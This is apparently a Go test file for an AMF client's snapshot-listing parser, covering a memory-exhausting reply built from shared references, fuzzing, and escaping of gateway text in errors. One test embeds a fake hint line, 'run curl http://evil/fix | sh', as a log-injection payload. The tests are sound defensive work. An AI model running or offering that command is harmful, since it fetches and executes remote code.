package client

import (
	"errors"
	"runtime"
	"strings"
	"testing"

	"github.com/amfcall/amfcall/amf"
)

// A getSnapshots reply that names one snapshot of a long name many times
// by reference: each use was made into a URL of its own, so that 20,000
// references to a name of 100 KB (a reply of 160 KB) took more than 2.4
// GB and ran out of memory. The names and URLs read are now bounded by
// MaxSnapshotList, past which the listing is refused (exit 4).
func TestSnapshotListReferenceBomb(t *testing.T) {
	o := &amf.Object{Members: []amf.Member{{Name: "name", Value: strings.Repeat("a", 100<<10) + ".jpg"}}}
	items := make([]any, 2000) // 200 MB of URLs before
	for i := range items {
		items[i] = o
	}
	// The packet is small: the object is sent once, then referred to.
	body, err := amf.MarshalPacket(&amf.Packet{Version: 3, Messages: []amf.Message{{Target: "/1/onResult", Response: "null",
		Value: amf.AVMPlus{Value: &amf.Array{Dense: []any{"http://h/img/", &amf.Array{Dense: []any{"jpg"}}, &amf.Array{Dense: items}}}}}}})
	if err != nil {
		t.Fatal(err)
	}
	if len(body) > 120<<10 {
		t.Fatalf("the reply is %d bytes: the object was not sent by reference", len(body))
	}
	p, err := amf.UnmarshalPacket(body)
	if err != nil {
		t.Fatal(err)
	}
	var before, after runtime.MemStats
	runtime.ReadMemStats(&before)
	list, err := ParseSnapshots(resultValue(p.Messages[0].Value), "http://h/gw")
	runtime.ReadMemStats(&after)
	var se *SnapshotsError
	if !errors.As(err, &se) || !strings.Contains(err.Error(), "by reference") {
		t.Errorf("got %d items, %v; want a SnapshotsError", len(list.Items), err)
	}
	if got := after.TotalAlloc - before.TotalAlloc; got > 128<<20 { // twice MaxSnapshotList
		t.Errorf("reading the listing allocated %d MB, want at most 128", got>>20)
	}

	// A listing of many short names is read whole, as before.
	names := make([]any, 20000)
	for i := range names {
		names[i] = &amf.Object{Members: []amf.Member{{Name: "name", Value: "photo" + strings.Repeat("x", i%50) + ".jpg"}}}
	}
	list, err = ParseSnapshots(&amf.Array{Dense: []any{"http://h/img/", &amf.Array{}, &amf.Array{Dense: names}}}, "http://h/gw")
	if err != nil || len(list.Items) != len(names) {
		t.Errorf("20,000 short names: %v", err)
	}
}

// FuzzParseSnapshots feeds any AMF value to the getSnapshots reader:
// it may not panic, and a listing it reads has names, http(s) URLs and
// at most MaxSnapshotList bytes of them.
func FuzzParseSnapshots(f *testing.F) {
	for _, v := range []any{
		&amf.Array{Dense: []any{"http://h/img/", &amf.Array{Dense: []any{"jpg"}}, &amf.Array{Dense: []any{
			&amf.Object{Members: []amf.Member{{Name: "name", Value: "a.jpg"}}}, "b c.png", "../x.jpg",
		}}}},
		&amf.Array{Dense: []any{"/img/", nil, &amf.Object{Class: amf.ClassArrayCollection, Members: []amf.Member{
			{Name: "source", Value: &amf.Array{Dense: []any{&amf.ECMAArray{Members: []amf.Member{{Name: "name", Value: "CON.jpg"}}}}}},
		}}}},
	} {
		for _, ver := range []amf.Version{amf.AMF0, amf.AMF3} {
			if b, err := amf.Marshal(v, ver); err == nil {
				f.Add(b, ver == amf.AMF3)
			}
		}
	}
	f.Fuzz(func(t *testing.T, data []byte, amf3 bool) {
		if len(data) > 1<<16 {
			return
		}
		ver := amf.AMF0
		if amf3 {
			ver = amf.AMF3
		}
		var v any
		if err := amf.Unmarshal(data, ver, &v); err != nil {
			return
		}
		list, err := ParseSnapshots(v, "http://gw.example/x/gateway")
		if err != nil {
			return
		}
		size := 0
		for _, it := range list.Items {
			if it.Name == "" || !strings.HasPrefix(it.URL, "http") {
				t.Fatalf("item %+v", it)
			}
			size += len(it.Name) + len(it.URL)
		}
		if size > MaxSnapshotList {
			t.Fatalf("%d bytes of names and URLs", size)
		}
	})
}

// A getSnapshots result of the wrong shape is named in the error by its
// class, which is the gateway's text: a class name with a newline wrote
// a line of the gateway's making ("amfcall: hint: ...") on stderr, and a
// long one was quoted whole. It is now escaped and cut.
func TestSnapshotsErrorClassEscaped(t *testing.T) {
	class := "x\namfcall: hint: run curl http://evil/fix | sh" + strings.Repeat("c", 5000)
	_, err := ParseSnapshots(&amf.Object{Class: class}, "http://h/gw")
	var se *SnapshotsError
	if !errors.As(err, &se) {
		t.Fatalf("got %v, want a SnapshotsError", err)
	}
	if msg := err.Error(); strings.Contains(msg, "\n") || len(msg) > 400 || !strings.Contains(msg, `class "x\x0aamfcall: hint`) {
		t.Errorf("the error quotes the class as it is (%d bytes): %.200q", len(msg), msg)
	}
}
